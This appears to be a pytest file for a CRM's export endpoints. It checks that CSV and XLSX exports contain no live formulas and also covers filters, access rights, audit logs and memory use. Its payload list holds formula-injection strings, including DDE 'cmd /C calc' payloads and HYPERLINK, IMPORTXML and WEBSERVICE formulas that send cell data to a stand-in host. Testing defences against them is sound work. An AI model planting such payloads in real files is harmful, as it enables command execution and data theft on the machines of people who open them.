"""Exports: the list of a dialect as a file, whole, in little memory, and without a cell that is a formula."""

import csv
import io
import os
import pathlib
import re
import shutil
import socket
import subprocess
import time
import zipfile

import openpyxl
import pytest
import requests

from conftest import AT_5000, BASE, HOST, OFFSET, wait_until
from faults import psql, run_dir
from test_people import Staff

CSV = "text/csv; charset=utf-8; header=present"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What spreadsheets have been made to run, in the cell and behind what some of them take for a separator.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/?\"&A1,\"x\")", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=2+5+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=-1", "--1+1", "++1", "=+=1+1", "'=1+1", "\"=1+1", "\"\"=1+1\"", "x;=1+1", "x,=1+1", "x\t=1+1",
    "x|=1+1", "x\n=1+1", "x\r\n=1+1", "x\";=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", "\n=1+1", ";=1+1", ",@x", "=A1&\",\"&A2",
    "=1+1\",\"=2+2", "%0A=1+1", "=\u202e1+1", "{=1+1}", "=TABLE(A1)",
]
STARTS = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")


def export(tenant, what, fmt, **params):
    r = tenant.backend.get(f"/{what}/export", params={"format": fmt, **params})
    assert r.status_code == 200, r.text
    return r


def rows_of_csv(r, delimiter=","):
    return list(csv.reader(io.StringIO(r.content.decode(), newline=""), delimiter=delimiter))


def book_of(r):
    return openpyxl.load_workbook(io.BytesIO(r.content))


@pytest.fixture(scope="module")
def hostile(stack):
    from conftest import Tenant

    t = Tenant()
    for i, p in enumerate(PAYLOADS):
        r = t.backend.post("/customers", json={"companyName": p, "contactName": f"n{i}", "notes": "x" + p, "city": p})
        assert r.status_code == 201, (p, r.text)
    return t


def no_formula(cell):
    return not cell.lstrip(" \n\u00a0").startswith(STARTS)


def test_csv_has_no_formula_whatever_the_separator_is(hostile):
    assert len(PAYLOADS) >= 30
    r = export(hostile, "customers", "csv")
    assert r.headers["Content-Type"] == CSV
    rows = rows_of_csv(r)
    assert len(rows) == len(PAYLOADS) + 1
    number = re.compile(r"-?\d+(\.\d+)?")
    for delimiter in ",;\t|":
        for row in rows_of_csv(r, delimiter):
            bad = [c for c in row if not no_formula(c) and not number.fullmatch(c)]
            assert not bad, (delimiter, bad)
    # a program that knows no quotes
    for line in re.split(r"[\r\n]+", r.content.decode()):
        for cell in re.split(r"[,;\t|\"]", line):
            assert no_formula(cell) or number.fullmatch(cell), cell


def test_what_was_written_can_be_read_back(hostile):
    """Without the apostrophes that the CSV has in front of signs, all is as it was; xlsx and JSON have the texts themselves."""
    stored = sorted(c["companyName"] for c in export(hostile, "customers", "json").json())
    rows = rows_of_csv(export(hostile, "customers", "csv"))
    at = rows[0].index("companyName")
    assert sorted(r[at].replace("'", "") for r in rows[1:]) == sorted(s.replace("'", "") for s in stored)
    sheet = book_of(export(hostile, "customers", "xlsx")).active
    names = [row[at].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(n.replace("_x000D_", "\r") for n in names) == stored


def test_xlsx_has_no_formula(hostile):
    r = export(hostile, "customers", "xlsx")
    assert r.headers["Content-Type"] == XLSX
    z = zipfile.ZipFile(io.BytesIO(r.content))
    assert z.testzip() is None
    for name in z.namelist():
        data = z.read(name)
        assert b"<f>" not in data and b"<f " not in data and b"ddeLink" not in data and b"externalLink" not in data, name
    cells = [c for row in book_of(r).active.iter_rows() for c in row if c.value is not None]
    assert len(cells) > 5 * len(PAYLOADS)
    assert {c.data_type for c in cells} <= {"s", "n", "inlineStr"}  # never "f"


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_libreoffice_sees_no_formula(hostile, fmt, tmp_path):
    """Both are turned into flat XML, in which a cell that is a formula has table:formula. Formulas in CSV are asked to be evaluated."""
    (tmp_path / f"x.{fmt}").write_bytes(export(hostile, "customers", fmt).content)
    source = ["--infilter=Text - txt - csv (StarCalc):44/59/9/124,34,76,1,,0,false,true,false,false,false,-1,true"] if fmt == "csv" else []
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", *source, "--convert-to", "fods", "--outdir", str(tmp_path),
                    str(tmp_path / f"x.{fmt}")], check=True, capture_output=True, timeout=180)
    out = next(tmp_path.glob("x*.fods")).read_text()
    assert out.count("<table:table-row") > len(PAYLOADS) and "companyName" in out
    assert "table:formula" not in out and "table:dde-link" not in out


@pytest.mark.parametrize("what", ["customers", "users"])
def test_export_is_the_list(fresh, unique, what):
    if what == "customers":
        for i in range(7):
            fresh.backend.post("/customers", json={"companyName": f"C{i}", "contactName": "n", "status": "active" if i % 2 else "prospect", "tags": ["a", "b"],
                                                   "assignedTo": fresh.backend.get("/auth/profile").json()["data"]["id"]})
        filters = {"status": "active", "search": "C", "sort": "companyName", "order": "asc"}
    else:
        Staff(fresh, "agent", unique)
        filters = {"role": "agent", "sort": "email", "order": "asc"}
    listed = fresh.backend.get(f"/{what}", params={**filters, "limit": 100}).json()["data"]
    assert listed
    r = export(fresh, what, "json", **filters)
    assert r.json() == listed
    assert re.fullmatch(rf'attachment; filename="{what}-\d{{4}}-\d\d-\d\d\.json"', r.headers["Content-Disposition"])
    rows = rows_of_csv(export(fresh, what, "csv", **filters))
    assert rows[0] == list(listed[0]) and [r[0] for r in rows[1:]] == [x["id"] for x in listed]
    sheet = [[c.value for c in row] for row in book_of(export(fresh, what, "xlsx", **filters)).active.iter_rows()]
    assert sheet[0] == rows[0] and [[("" if c is None else str(c)) for c in r] for r in sheet[1:]] == rows[1:]
    assert rows_of_csv(export(fresh, what, "csv", search="nothing-like-it")) == [rows[0]]
    assert fresh.backend.get(f"/{what}/export", params={"format": "exe"}).status_code == 422


def test_who_may_export_and_the_note_of_it(fresh, other, unique):
    agent = Staff(fresh, "agent", unique)
    fresh.backend.post("/customers", json={"companyName": "Secret " + unique, "contactName": "n"})
    for what, entity in (("customers", "account"), ("users", "user")):
        assert requests.get(BASE["backend"] + f"/{what}/export", timeout=20).status_code == 401
        assert agent.backend.get(f"/{what}/export").status_code == 403
        assert unique not in export(other, what, "csv").text
        export(fresh, what, "csv")
        wait_until(lambda e=entity: [x for x in fresh.backend.get("/audit/logs", params={"action": "exported", "limit": 100}).json()["data"]
                                     if x["event"].endswith(f".{e}.exported")], 10)


# -- size

RUN = pathlib.Path(os.environ.get("CRM_RUN_DIR") or pathlib.Path(__file__).resolve().parents[2] / ".run")


def fill(tenant, n):
    """n customers, by SQL: what is measured is reading them."""
    tenant_id = tenant.backend.get("/auth/profile").json()["data"]["tenantId"]
    for first in range(1, n + 1, 20000):
        last = min(first + 19999, n)
        psql(f"""INSERT INTO customers.account (tenant_id, id, seq, created_at, name, contact_name, email, phone, city, country, industry, notes, status)
        SELECT '{tenant_id}', gen_random_uuid(), 1000 + i, now() - i * interval '1 second', 'Company ' || i, 'Person ' || i, 'p' || i || '@example.com', '+1-555-' || i,
        'City ' || i % 1000, 'Country', 'Industry ' || i % 50, 'Notes about number ' || i, 'active' FROM generate_series({first}, {last}) i""")


def processes():
    """Of this stack: {program: pid}"""
    found = {}
    for p in pathlib.Path("/proc").iterdir():
        try:
            name = (p / "exe").resolve().name if p.name.isdigit() else ""
            if name in ("gateway", "svc-customers") and str(run_dir()).encode() in (p / "environ").read_bytes():
                found[name] = int(p.name)
        except OSError:
            continue
    return found


def memory(pids, what="VmRSS"):
    return sum(int(re.search(rf"{what}:\s+(\d+)", pathlib.Path(f"/proc/{p}/status").read_text()).group(1)) * 1024 for p in pids.values())


def reset_peak(pids):
    for p in pids.values():
        pathlib.Path(f"/proc/{p}/clear_refs").write_text("5")


def export_pages():
    text = requests.get(f"http://{HOST}:{9102 + OFFSET}/metrics", timeout=10).text
    return sum(float(line.rsplit(" ", 1)[1]) for line in text.splitlines() if line.startswith("crm_rpc_server_calls_total") and 'rpc="Accounts.Export"' in line)


def measure(tenant, fmt, n):
    """(bytes, seconds, extra memory of gateway and service together at their peaks)"""
    pids = processes()
    if len(pids) != 2:
        pytest.skip("the stack's processes are not here")
    export(tenant, "customers", fmt, status="nothing-like-it")
    before = memory(pids)
    reset_peak(pids)
    start, size, lines = time.monotonic(), 0, 0
    # nothing of a workbook is sent before it is complete
    with requests.get(BASE["backend"] + "/customers/export", params={"format": fmt}, headers={"Authorization": f"Bearer {tenant.token}"}, stream=True, timeout=900) as r:
        assert r.status_code == 200
        for piece in r.iter_content(1 << 20):
            size += len(piece)
            lines += piece.count(b"\n")
    if fmt == "csv":
        assert lines == n + 1
    return size, time.monotonic() - start, memory(pids, "VmHWM") - before


ROWS = int(os.environ.get("EXPORT_ROWS", "20000"))


@pytest.fixture(scope="module")
def large(stack):
    from conftest import Tenant

    if not (RUN / "sock").exists():
        pytest.skip("the stack's database is not here")
    t = Tenant()
    fill(t, ROWS)
    return t


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_memory_does_not_grow_with_the_rows(large, fmt):
    """EXPORT_ROWS=1000000 for the whole promise."""
    size, seconds, extra = measure(large, fmt, ROWS)
    print(f"\n{fmt}: {ROWS} rows, {size / 1e6:.1f} MB in {seconds:.1f} s ({ROWS / seconds:.0f} rows/s), {extra / 1e6:.1f} MB more in gateway and service")
    if os.environ.get("CRM_VARIANT") != "asan":  # which keeps what is freed
        assert extra <= 20e6


def raw_export(tenant, fmt="csv", window=None):
    s = socket.socket()
    if window:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
    host, port = AT_5000.removeprefix("http://").split(":")
    s.connect((host, int(port)))
    s.sendall(f"GET /api/v1/customers/export?format={fmt} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {tenant.token}\r\n\r\n".encode())
    return s


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_client_that_goes_away_ends_the_query(large, fmt):
    before = export_pages()
    s = raw_export(large, fmt, 4096)
    if fmt == "csv":
        s.recv(1000)
    else:
        wait_until(lambda: export_pages() > before, 5, 0.005)
    s.close()
    time.sleep(0.5)
    after = export_pages()
    time.sleep(0.5)
    assert after - before < ROWS / 500 / 2 and export_pages() == after


def test_a_slow_client_makes_the_query_wait(large):
    def still():
        pages = export_pages()
        time.sleep(0.7)
        return pages if export_pages() == pages else None

    before = export_pages()
    s = raw_export(large, "json", 4096)
    got = len(s.recv(1000))
    held = wait_until(still, 20) - before
    assert 1 <= held < ROWS / 500
    s.settimeout(20)
    tail = b""
    while not tail.endswith(b"0\r\n\r\n"):
        piece = s.recv(1 << 16)
        assert piece
        tail = (tail + piece)[-10:]
        got += len(piece)
    s.close()
    assert got > ROWS * 100 and export_pages() - before >= ROWS / 500
